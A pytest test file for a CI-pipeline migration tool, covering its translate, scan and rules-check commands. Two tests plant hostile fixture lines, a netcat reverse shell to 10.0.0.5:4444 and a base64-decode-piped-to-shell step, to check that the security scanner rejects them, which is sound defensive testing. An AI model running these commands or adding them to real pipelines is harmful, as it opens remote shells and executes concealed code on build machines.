"""CLI parser and command behaviour tests."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from cimigrate.cli import EXIT_FAILURE, EXIT_REJECTED, _build_parser, main


def test_cli_accepts_verbose_before_command() -> None:
    parser = _build_parser()
    args = parser.parse_args(["--verbose", "translate", "ci.yml"])
    assert args.verbose is True
    assert args.command == "translate"


def test_cli_accepts_verbose_after_command() -> None:
    parser = _build_parser()
    args = parser.parse_args(["scan", "ci.yml", "--verbose"])
    assert args.verbose is True
    assert args.command == "scan"


def test_translate_options() -> None:
    parser = _build_parser()
    args = parser.parse_args(
        ["translate", "Jenkinsfile", "--dialect", "groovy-pipeline-dsl", "--rules", "a.yml", "b.yml", "--json"]
    )
    assert args.dialect == "groovy-pipeline-dsl"
    assert args.rules == ["a.yml", "b.yml"]
    assert args.json is True
    assert args.no_builtin_rules is False
    assert args.output is None


def test_translate_rejects_unknown_dialect() -> None:
    with pytest.raises(SystemExit):
        _build_parser().parse_args(["translate", "ci.yml", "--dialect", "gitlab"])


def test_serve_defaults() -> None:
    args = _build_parser().parse_args(["serve"])
    assert (args.host, args.port) == ("127.0.0.1", 8000)


def test_translate_prints_pipeline(workflow_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["translate", str(workflow_file)])
    out = capsys.readouterr().out
    assert out.startswith("# Translated pipeline\n")
    assert [step["key"] for step in yaml.safe_load(out)["steps"]] == ["build", "deploy"]


def test_translate_writes_output_file(
    jenkinsfile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "pipeline.yml"
    main(["translate", str(jenkinsfile), "-o", str(target)])
    assert "Pipeline written to" in capsys.readouterr().out
    assert yaml.safe_load(target.read_text(encoding="utf-8"))["agents"] == {"queue": "linux"}


def test_translate_reports_unwritable_output(
    workflow_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "missing-dir" / "pipeline.yml"
    with pytest.raises(SystemExit) as excinfo:
        main(["translate", str(workflow_file), "-o", str(target)])
    assert excinfo.value.code == EXIT_FAILURE
    assert "cimigrate translate failed" in capsys.readouterr().err
    assert not target.exists()


def test_translate_json_output(workflow_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["translate", str(workflow_file), "--json"])
    payload = json.loads(capsys.readouterr().out)
    assert payload["dialect"] == "workflow-yaml"
    assert payload["pipeline"].startswith("# Translated pipeline")
    assert {item["severity"] for item in payload["diagnostics"]} <= {"info", "warning"}


def test_translate_rejected_document_exits_with_rejected_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "ci.yml"
    source.write_text("on: push\njobs:\n  build:\n    steps:\n      - run: nc -e /bin/sh 10.0.0.5 4444\n")
    with pytest.raises(SystemExit) as excinfo:
        main(["translate", str(source), "--json"])
    assert excinfo.value.code == EXIT_REJECTED
    captured = capsys.readouterr()
    assert json.loads(captured.out)["rejected"]["category"] == "reverse-shell"
    assert "Security check failed (reverse-shell)" in captured.err


def test_translate_missing_file_fails(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as excinfo:
        main(["translate", str(tmp_path / "missing.yml")])
    assert excinfo.value.code == EXIT_FAILURE
    assert "cimigrate translate failed" in capsys.readouterr().err


def test_translate_with_only_user_rules(
    workflow_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rules = tmp_path / "rules.yml"
    rules.write_text(
        "version: 1\nrules:\n  - id: job\n    match: {kind: job}\n    emit:\n      - target: step\n"
        "        attributes: {label: '{{ identifier }}'}\n",
        encoding="utf-8",
    )
    main(["translate", str(workflow_file), "--rules", str(rules), "--no-builtin-rules"])
    out = capsys.readouterr().out
    assert [step["label"] for step in yaml.safe_load(out)["steps"]] == ["build", "deploy"]
    assert "UnmappedConstruct" in out


def test_translate_reports_malformed_rules(
    workflow_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rules = tmp_path / "rules.yml"
    rules.write_text("version: 1\nrules:\n  - id: bad\n    match: {kind: nope}\n", encoding="utf-8")
    with pytest.raises(SystemExit) as excinfo:
        main(["translate", str(workflow_file), "--rules", str(rules)])
    assert excinfo.value.code == EXIT_FAILURE
    assert "rule 'bad': unknown construct kind" in capsys.readouterr().err


def test_scan_reports_clean_file(workflow_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["scan", str(workflow_file)])
    assert "No security findings" in capsys.readouterr().out


def test_scan_exits_when_blocked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "ci.yml"
    source.write_text("on: push\njobs:\n  build:\n    steps:\n      - run: echo aGk= | base64 -d | sh\n")
    with pytest.raises(SystemExit) as excinfo:
        main(["scan", str(source), "--json"])
    assert excinfo.value.code == EXIT_REJECTED
    findings = json.loads(capsys.readouterr().out)
    assert findings[0]["severity"] == "blocked"
    assert findings[0]["line"] == 5


def test_rules_check(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = tmp_path / "good.yml"
    good.write_text("version: 1\nrules:\n  - id: quiet\n    match: {kind: other}\n", encoding="utf-8")
    main(["rules", "check", str(good)])
    assert "1 rule(s) ok" in capsys.readouterr().out

    bad = tmp_path / "bad.yml"
    bad.write_text("version: 3\n", encoding="utf-8")
    with pytest.raises(SystemExit) as excinfo:
        main(["rules", "check", str(good), str(bad)])
    assert excinfo.value.code == EXIT_FAILURE
    captured = capsys.readouterr()
    assert "unsupported rule schema version 3" in captured.err
    assert "1 rule file(s) failed validation" in captured.err
